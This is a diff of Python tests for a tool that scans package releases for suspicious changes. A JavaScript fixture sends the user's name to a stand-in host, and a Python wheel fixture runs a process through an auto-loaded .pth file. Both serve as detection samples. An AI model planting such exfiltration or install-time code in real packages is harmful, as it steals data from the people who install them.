@@ -17,12 +17,12 @@ _OLD = {"index.js": b"module.exports = (a, b) => a + b;\n"}
 _SENDS = b"const https = require('https');\nhttps.get('https://collect.example.dev/?u=' + process.env.USER);\n"
 
 
-def came(folder: Path, old: bytes, new: bytes, ending: str) -> tuple[int, dict[str, str]]:
+def came(folder: Path, old: bytes, new: bytes, ending: str) -> tuple[int, set[tuple[str, str]]]:
     (folder / f"demo-1.0{ending}").write_bytes(old)
     (folder / f"demo-1.1{ending}").write_bytes(new)
     run = assay("diff", f"demo-1.0{ending}", f"demo-1.1{ending}", "-f", "json", cwd=folder)
     findings = [one["after"] for one in json.loads(run.stdout)["findings"] if "before" not in one]
-    told = {one["evidence"][0]: one["severity"] for one in findings if one["rule"] == "DIFF-001"}
+    told = {(one["evidence"][0], one["severity"]) for one in findings if one["rule"] == "DIFF-001"}
     return run.returncode, told
 
 
@@ -39,20 +39,20 @@ def test_npm(tmp_path: Path) -> None:
     code, told = came(tmp_path, old, new, ".tgz")
     assert code == 1
     assert told == {
-        "postinstall: node setup.js": "medium",
-        "uses the network (https.get)": "medium",
-        "collect.example.dev": "medium",
-        "lib/addon.node": "medium",
-        "bob@example.invalid": "medium",
-        "left-pad": "low",
-    } | {text: "high" for text, severity in told.items() if severity == "high"}
-    assert "high" in told.values()
+        ("postinstall: node setup.js", "medium"),
+        ("uses the network (https.get)", "medium"),
+        ("uses the network (https.get)", "high"),
+        ("collect.example.dev", "medium"),
+        ("lib/addon.node", "medium"),
+        ("bob@example.invalid", "medium"),
+        ("left-pad", "low"),
+    }
 
 
 def test_a_harmless_release(tmp_path: Path) -> None:
     old = tarball(_OLD, name="demo", version="1.0.0")
     new = tarball({"index.js": b"module.exports = (a, b) => b + a;\n"}, name="demo", version="1.1.0")
-    assert came(tmp_path, old, new, ".tgz") == (1, {})
+    assert came(tmp_path, old, new, ".tgz") == (1, set())
 
 
 def test_pypi(tmp_path: Path) -> None:
@@ -60,8 +60,7 @@ def test_pypi(tmp_path: Path) -> None:
     new = wheel({"demo/__init__.py": b"import subprocess\nsubprocess.run(['id'])\n", "demo.pth": b"import demo\n"})
     code, told = came(tmp_path, old, new, "-py3-none-any.whl")
     assert code == 1
-    assert told["demo.pth"] in ("medium", "high")
-    assert told["starts processes (subprocess.run)"] == "medium"
+    assert {("demo.pth", "medium"), ("starts processes (subprocess.run)", "medium")} <= told
 
 
 def test_the_same_twice(tmp_path: Path) -> None:
